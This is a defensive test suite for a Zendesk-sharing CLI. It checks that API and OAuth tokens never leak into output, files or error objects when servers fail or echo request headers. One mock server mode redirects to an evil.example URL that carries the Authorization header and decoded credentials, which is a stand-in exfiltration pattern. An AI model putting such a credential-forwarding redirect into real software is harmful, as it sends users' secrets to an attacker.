/**
 * API tokens never leave the process except in the Authorization header sent to the
 * configured API: not on stdout or stderr, not in plan files, apply reports or imported
 * files, not in error messages or in what a thrown error carries (stack, details, cause),
 * whatever goes wrong on the way (connection refused, DNS failure, TLS spoken to a plain
 * HTTP port, 401, 5xx, a server that echoes our request headers back, a redirect carrying
 * them). Every command runs with a distinctive token; every output and file is scanned for
 * the token, its base64, and the base64 of `email/token:TOKEN`.
 */
import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import { inspect } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAdapter } from '../../src/remote/adapter.js';
import type { Adapter } from '../../src/remote/types.js';
import { startSandbox, type Sandbox } from '../../src/sandbox/index.js';
import {
  EMAIL,
  OAUTH_TOKEN,
  REPO_ROOT,
  TOKEN,
  acmeFile,
  envFor,
  leaks,
  readTree,
  removeRepos,
  repo,
  run,
  secretForms,
  secretSeed,
  type CliRun,
} from './helpers.js';

const FORMS = { ...secretForms(EMAIL, TOKEN), ...prefixed('oauth ', secretForms(EMAIL, OAUTH_TOKEN)) };

function prefixed(prefix: string, forms: Record<string, string>): Record<string, string> {
  return Object.fromEntries(Object.entries(forms).map(([k, v]) => [`${prefix}${k}`, v]));
}

/** Modes of the echo server: each answers every request with our own headers in its body. */
const ECHO_MODES = ['json500', 'text500', 'json401', 'json422', 'html403', 'redirect', 'retry-after-long', 'broken200'] as const;
type EchoMode = (typeof ECHO_MODES)[number];

/**
 * A server that plays a misbehaving Zendesk or proxy: it echoes the request headers
 * (Authorization included) in its error bodies, in JSON, text and HTML, and in a redirect
 * Location. The mode is the first path segment: http://127.0.0.1:PORT/<mode>/api/v2.
 */
class EchoServer {
  private server!: Server;
  port = 0;
  /** Authorization headers received (proves the secret was really sent). */
  readonly seen: string[] = [];

  async start(): Promise<this> {
    this.server = createServer((req, res) =>
      this.answer(
        req,
        (status, headers) => void res.writeHead(status, headers),
        (body) => void res.end(body),
      ),
    );
    await new Promise<void>((done) => this.server.listen(0, '127.0.0.1', done));
    this.port = (this.server.address() as AddressInfo).port;
    return this;
  }

  url(mode: EchoMode): string {
    return `http://127.0.0.1:${this.port}/${mode}/api/v2`;
  }

  private answer(req: IncomingMessage, head: (status: number, headers: Record<string, string>) => void, end: (body?: string) => void): void {
    const auth = req.headers.authorization ?? '';
    this.seen.push(auth);
    const headers = JSON.stringify(req.headers);
    const decoded = Buffer.from(auth.replace(/^\S+\s+/, ''), 'base64').toString('utf8');
    const mode = (req.url ?? '').split('/')[1] as EchoMode;
    const json = (status: number, body: unknown) => {
      head(status, { 'content-type': 'application/json' });
      end(JSON.stringify(body));
    };
    switch (mode) {
      case 'json500':
        return json(500, { error: 'InternalError', description: `upstream said: ${auth} (${decoded})`, details: { headers: req.headers, token: decoded } });
      case 'text500':
        head(500, { 'content-type': 'text/plain' });
        return end(`proxy error\nrequest headers: ${headers}\nauthorization: ${auth}\ncredentials: ${decoded}\n`);
      case 'json401':
        return json(401, { error: "Couldn't authenticate you", echo: { authorization: auth, credentials: decoded } });
      case 'json422':
        return json(422, { error: 'RecordInvalid', description: 'Record validation errors', details: { base: [{ description: `Authorization ${auth} is invalid for ${decoded}`, error: 'Invalid' }] } });
      case 'html403':
        head(403, { 'content-type': 'text/html' });
        return end(`<html><body><h1>Forbidden</h1><pre>${headers}</pre><p>${decoded}</p></body></html>`);
      case 'redirect':
        head(302, { location: `https://evil.example/collect?auth=${encodeURIComponent(auth)}&cred=${encodeURIComponent(decoded)}`, 'content-type': 'application/json' });
        return end(JSON.stringify({ moved: auth }));
      case 'retry-after-long':
        head(429, { 'content-type': 'application/json', 'retry-after': '86400' });
        return end(JSON.stringify({ errors: [{ code: 'TooManyRequests', title: `slow down ${auth} ${decoded}` }] }));
      case 'broken200':
        // A 200 whose body is not what the endpoint returns, with the secret inside.
        return json(200, { user: { id: `${decoded}`, role: auth }, organizations: [{ id: decoded, name: auth }], meta: { has_more: true } });
      default:
        return json(404, { error: 'InvalidEndpoint', description: `unknown mode ${mode}: ${auth}` });
    }
  }

  close(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((done) => this.server.close(() => done()));
  }
}

let sb: Sandbox;
let echo: EchoServer;
let closedPort: number;

beforeAll(async () => {
  sb = await startSandbox({ port: 0, seed: secretSeed() });
  echo = await new EchoServer().start();
  // A port nobody listens on: bind, note it, close.
  const probe = createServer();
  await new Promise<void>((done) => probe.listen(0, '127.0.0.1', done));
  closedPort = (probe.address() as AddressInfo).port;
  await new Promise<void>((done) => probe.close(() => done()));
});
afterAll(async () => {
  await echo.close();
  await sb.close();
  await removeRepos();
});

const tokenEnv = (base: string, extra: NodeJS.ProcessEnv = {}): NodeJS.ProcessEnv =>
  envFor({ baseUrl: base }, { ZENDESK_API_TOKEN: TOKEN, ...extra });

/** Everything a run printed, for scanning. */
const printed = (r: CliRun) => `${r.stdout}\n${r.stderr}`;

interface Finding {
  where: string;
  forms: string[];
}

function scan(where: string, text: string, out: Finding[]): void {
  const forms = leaks(text, FORMS);
  if (forms.length > 0) out.push({ where, forms });
}

const NETWORK_COMMANDS: string[][] = [
  ['plan'],
  ['--format', 'json', 'plan'],
  ['--format', 'markdown', 'plan'],
  ['apply', '--yes'],
  ['--format', 'json', 'apply', '--yes'],
  ['drift'],
  ['--format', 'json', 'drift'],
  ['import', '--org', '360000000106'],
  ['access'],
  ['--format', 'json', 'access'],
  ['history'],
  ['--format', 'json', 'history'],
  ['review'],
  ['--format', 'csv', 'review'],
];

describe('successful runs never print or write the token', () => {
  for (const [label, extra] of [
    ['API token', {}],
    ['OAuth token', { ZENDESK_API_TOKEN: '', ZENDESK_OAUTH_TOKEN: OAUTH_TOKEN }],
  ] as const) {
    it(`every command, with the ${label}: outputs, plan file, apply report and imported files are clean`, async () => {
      sb.reset();
      const dir = await repo({ 'orgs/acme-corp.yaml': acmeFile(), 'orgs/initech.yaml': 'organization:\n  id: 360000000103\n  name: Initech\nsharing: private\nrequest:\n  ticket: https://acme.zendesk.com/agent/tickets/4900\n' });
      const env = tokenEnv(sb.baseUrl, extra);
      const runs: [string, CliRun][] = [];
      const go = async (argv: string[]) => runs.push([argv.join(' '), await run(env, dir, argv)]);
      await go(['validate']);
      await go(['--format', 'json', 'plan', '--out', join(dir, 'plan.json')]);
      await go(['--format', 'markdown', 'plan']);
      await go(['apply', join(dir, 'plan.json')]);
      sb.reset();
      await go(['--format', 'json', 'apply', '--yes']);
      await go(['--format', 'markdown', 'apply', '--yes']);
      await go(['drift']);
      await go(['--format', 'markdown', 'drift']);
      await go(['import', '--shared']);
      await go(['import', '--org', '360000000106', '--format', 'json']);
      await go(['access']);
      await go(['--format', 'json', 'access']);
      await go(['--format', 'markdown', 'history']);
      await go(['--format', 'json', 'review']);
      await go(['--format', 'csv', 'review']);

      const codes = Object.fromEntries(runs.map(([k, r]) => [k, r.code]));
      expect(codes[`--format json plan --out ${join(dir, 'plan.json')}`]).toBe(2);
      expect(codes[`apply ${join(dir, 'plan.json')}`]).toBe(0);
      expect(codes['--format json apply --yes']).toBe(0);
      const findings: Finding[] = [];
      for (const [k, r] of runs) scan(k, printed(r), findings);
      const tree = await readTree(dir);
      expect(tree.files.some((f) => f.endsWith('plan.json'))).toBe(true);
      expect(tree.files.some((f) => f.endsWith('/orgs/globex.yaml'))).toBe(true); // written by import
      scan('files in the config dir', tree.text, findings);
      expect(findings).toEqual([]);
      // The secret was in use: the sandbox only accepts this token.
      expect(sb.log().every((e) => e.status !== 401)).toBe(true);
    });
  }
});

describe('failed runs never print the token, whatever failed', () => {
  const failures: { name: string; env: () => NodeJS.ProcessEnv; expect: RegExp }[] = [
    { name: 'connection refused', env: () => tokenEnv(`http://127.0.0.1:${closedPort}/api/v2`), expect: /connection refused/ },
    // Not a sandbox: the real clock, or apply would refuse the pinned one before connecting.
    { name: 'DNS failure for a bogus host', env: () => tokenEnv('https://orgshare-no-such-host.invalid/api/v2', { ORGSHARE_NOW: '' }), expect: /connection failed|ENOTFOUND|EAI_AGAIN/ },
    { name: 'TLS spoken to a plain-HTTP port', env: () => tokenEnv(sb.baseUrl.replace('http://', 'https://')), expect: /connection failed/ },
    { name: '401 from the sandbox (a wrong token)', env: () => tokenEnv(sb.baseUrl, { ZENDESK_API_TOKEN: `${TOKEN}-wrong` }), expect: /401/ },
    ...ECHO_MODES.map((mode) => ({ name: `a server echoing our headers: ${mode}`, env: () => tokenEnv(echo.url(mode)), expect: /failed|error|Error/ })),
    { name: 'a server echoing our headers, OAuth: json500', env: () => tokenEnv(echo.url('json500'), { ZENDESK_API_TOKEN: '', ZENDESK_OAUTH_TOKEN: OAUTH_TOKEN }), expect: /500/ },
  ];

  it(`${failures.length} failure modes × ${NETWORK_COMMANDS.length} commands: exit 1, a message, and no secret in any output or file`, async () => {
    const dir = await repo({ 'orgs/acme-corp.yaml': acmeFile() });
    const before = echo.seen.length;
    const results = await Promise.all(
      failures.flatMap((f) => NETWORK_COMMANDS.map(async (argv) => ({ f, argv, r: await run(f.env(), dir, argv) }))),
    );
    const findings: Finding[] = [];
    const wrongExit: string[] = [];
    const silent: string[] = [];
    for (const { f, argv, r } of results) {
      const where = `${f.name} / ${argv.join(' ')}`;
      scan(where, printed(r), findings);
      if (r.code !== 1) wrongExit.push(`${where}: exit ${r.code}`);
      if (!f.expect.test(printed(r))) silent.push(`${where}: ${printed(r).slice(0, 200)}`);
    }
    scan('files in the config dir', (await readTree(dir)).text, findings);
    expect(findings).toEqual([]);
    expect(wrongExit).toEqual([]);
    expect(silent).toEqual([]);
    // The echo server did receive the credentials: what it echoed was really the secret.
    const received = echo.seen.slice(before);
    expect(received).toContain(`Basic ${Buffer.from(`${EMAIL}/token:${TOKEN}`).toString('base64')}`);
    expect(received).toContain(`Bearer ${OAUTH_TOKEN}`);
  }, 60_000);

  it('the built binary prints no secret when the server echoes its headers (stdout and stderr)', async () => {
    const bin = resolve(REPO_ROOT, 'dist/src/cli.js');
    expect(existsSync(bin), 'run `npm run build` first (npm test does)').toBe(true);
    const dir = await repo({ 'orgs/acme-corp.yaml': acmeFile() });
    const env = { ...tokenEnv(echo.url('json422')), NODE_OPTIONS: '' };
    const result = await new Promise<{ code: number | null; out: string }>((done) => {
      const child = spawn(process.execPath, [bin, '--dir', dir, 'plan'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
      let out = '';
      child.stdout.on('data', (d: Buffer) => (out += d.toString()));
      child.stderr.on('data', (d: Buffer) => (out += d.toString()));
      child.on('exit', (code) => done({ code, out }));
    });
    expect(result.code).toBe(1);
    expect(result.out).toMatch(/422/);
    expect(leaks(result.out, FORMS)).toEqual([]);
  }, 30_000);
});

describe('errors thrown by the adapter carry no secret in message, stack, details or cause', () => {
  function adapterFor(baseUrl: string, readOnly = true, oauth = false): Adapter {
    return createAdapter({
      baseUrl,
      subdomain: 'acme',
      auth: oauth ? { kind: 'oauth', token: OAUTH_TOKEN } : { kind: 'token', email: EMAIL, token: TOKEN },
      readOnly,
      maxRetries: 0,
      retryBaseMs: 1,
      timeoutMs: 5_000,
    });
  }

  async function thrown(fn: () => Promise<unknown>): Promise<unknown> {
    try {
      await fn();
    } catch (err) {
      return err;
    }
    throw new Error('expected a failure');
  }

  /** Every way a thrown error may end up in a log. */
  function renderings(err: unknown): string {
    const e = err as Error & { details?: unknown; cause?: unknown };
    return [
      String(err),
      e.message,
      e.stack ?? '',
      inspect(err, { depth: 20, showHidden: true, getters: true }),
      JSON.stringify(err),
      JSON.stringify(e.details ?? null),
      inspect(e.cause, { depth: 20 }),
    ].join('\n');
  }

  const bases = (): [string, string, boolean][] => [
    ['connection refused', `http://127.0.0.1:${closedPort}/api/v2`, false],
    ['DNS failure', 'https://orgshare-no-such-host.invalid/api/v2', false],
    ['TLS to plain HTTP', sb.baseUrl.replace('http://', 'https://'), false],
    ...ECHO_MODES.filter((m) => m !== 'broken200').map((m): [string, string, boolean] => [`echo ${m}`, echo.url(m), false]),
    ['echo json500 (OAuth)', echo.url('json500'), true],
  ];

  const READS: [string, (a: Adapter) => Promise<unknown>][] = [
    ['me', (a) => a.me()],
    ['showOrganizations', (a) => a.showOrganizations([360000000101])],
    ['organizationPages', async (a) => {
      for await (const page of a.organizationPages()) void page;
    }],
    ['ticketComments', (a) => a.ticketComments(4821)],
  ];

  it('for reads, writes and the read-only guard, under every failure', async () => {
    const findings: Finding[] = [];
    for (const [label, base, oauth] of bases()) {
      for (const [name, call] of READS) {
        const err = await thrown(() => call(adapterFor(base, true, oauth)));
        scan(`${label} / ${name}`, renderings(err), findings);
      }
      const write = await thrown(() => adapterFor(base, false, oauth).updateOrganizations([{ id: 360000000101, details: 'x' }]));
      scan(`${label} / updateOrganizations`, renderings(write), findings);
    }
    const guard = await thrown(() => adapterFor(sb.baseUrl, true).updateTicket(4821, { comment: { body: 'x', public: true } }));
    expect((guard as Error).name).toBe('ReadOnlyViolation');
    scan('read-only guard', renderings(guard), findings);
    expect(findings).toEqual([]);
  }, 60_000);

  // Fixed: a 200 answer of the wrong shape is reported by src/remote/mapping.ts `bad()`
  // (line 24) with the offending value verbatim and without redact(), so a server or
  // proxy that echoes the Authorization header into a body puts the token into the
  // RemoteError's message and stack. The CLI is still clean (handleError redacts on
  // output), but any other consumer that logs the error is not. Fix: in bad(), wrap the
  // message in redact() and show values through a bounded excerpt.
  it('a 200 answer of the wrong shape that echoes the credentials', async () => {
    const findings: Finding[] = [];
    for (const [name, call] of READS) scan(`broken200 / ${name}`, renderings(await thrown(() => call(adapterFor(echo.url('broken200'))))), findings);
    expect(findings).toEqual([]);
  });

  it('a redirect is not followed: the credentials never go to the Location host', async () => {
    const before = echo.seen.length;
    const err = await thrown(() => adapterFor(echo.url('redirect')).me());
    expect(String((err as Error).message)).toMatch(/302/);
    expect(echo.seen.length - before).toBe(1);
  });
});
